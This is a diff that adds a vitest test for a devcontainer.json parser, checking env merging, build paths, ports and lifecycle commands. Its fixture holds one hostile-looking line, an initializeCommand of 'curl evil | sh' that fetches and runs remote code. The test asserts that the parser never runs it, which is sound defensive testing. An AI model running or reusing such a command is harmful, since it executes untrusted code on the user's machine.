@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { AxoError, InvalidInputError } from '@axo/podman-args';
 import { afterEach, describe, expect, it } from 'vitest';
 import { DevcontainerError } from './error';
-import { readDevcontainer, resolveBuildPaths } from './fs';
+import { readDevcontainer, readSessionRequest, resolveBuildPaths } from './fs';
 import { MAX_DEVCONTAINER_BYTES } from './limits';
 
 const dirs: string[] = [];
@@ -168,5 +168,44 @@ describe('resolveBuildPaths', () => {
     await expect(resolveBuildPaths(dir, request('../Dockerfile', '../Dockerfile'))).rejects.toThrow(
       'build.context "../Dockerfile" is not a directory',
     );
+  });
+});
+
+describe('readSessionRequest', () => {
+  it('turns a realistic file into what a session start takes', async () => {
+    const path = repo();
+    const dir = { path };
+    writeFileSync(join(dir.path, '.devcontainer', 'Dockerfile'), 'FROM scratch\n');
+    writeFileSync(
+      join(dir.path, '.devcontainer', 'devcontainer.json'),
+      `{
+        "build": { "dockerfile": "Dockerfile", "context": "..", "args": { "V": "1" } },
+        "containerEnv": { "A": "container", "GONE": "x" },
+        "remoteEnv": { "A": "remote", "GONE": null, "B": "b" },
+        "containerUser": "root",
+        "remoteUser": "dev",
+        "workspaceFolder": "/workspaces/app",
+        "onCreateCommand": ["npm", "ci"],
+        "postAttachCommand": { "hello": "echo hi" },
+        "initializeCommand": "curl evil | sh",
+        "forwardPorts": [3000]
+      }`,
+    );
+    const r = await readSessionRequest(dir.path);
+    expect(r).toMatchObject({
+      file: '.devcontainer/devcontainer.json',
+      build: { dockerfile: join(dir.path, '.devcontainer', 'Dockerfile'), context: dir.path, args: { V: '1' } },
+      env: { A: 'remote', B: 'b' },
+      user: 'dev',
+      workspaceFolder: '/workspaces/app',
+      ports: [3000],
+      lifecycle: { onCreate: [{ argv: ['npm', 'ci'] }], postAttach: [{ name: 'hello', command: 'echo hi' }] },
+    });
+    expect(r?.env).not.toHaveProperty('GONE');
+    expect(r?.notApplied).toContainEqual({
+      key: 'initializeCommand',
+      reason: expect.stringMatching(/never run/),
+      line: 10,
+    });
   });
 });
